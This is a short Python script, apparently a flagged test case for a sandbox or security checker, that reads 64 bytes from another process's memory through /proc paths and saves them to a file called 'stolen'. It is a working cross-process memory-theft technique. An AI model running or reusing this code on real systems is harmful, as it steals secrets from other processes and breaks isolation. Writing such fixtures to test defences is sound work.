# flagged: python3.11
import os
os.chdir(f"/proc/self/root/proc/{os.environ['RG_OUTSIDER']}")
here = os.environ["HOME"]
memory = os.open("mem", os.O_RDONLY)
taken = os.pread(memory, 64, int(os.environ["RG_SECRET_AT"], 16))
with open(f"{here}/stolen", "wb") as file:
    file.write(taken)
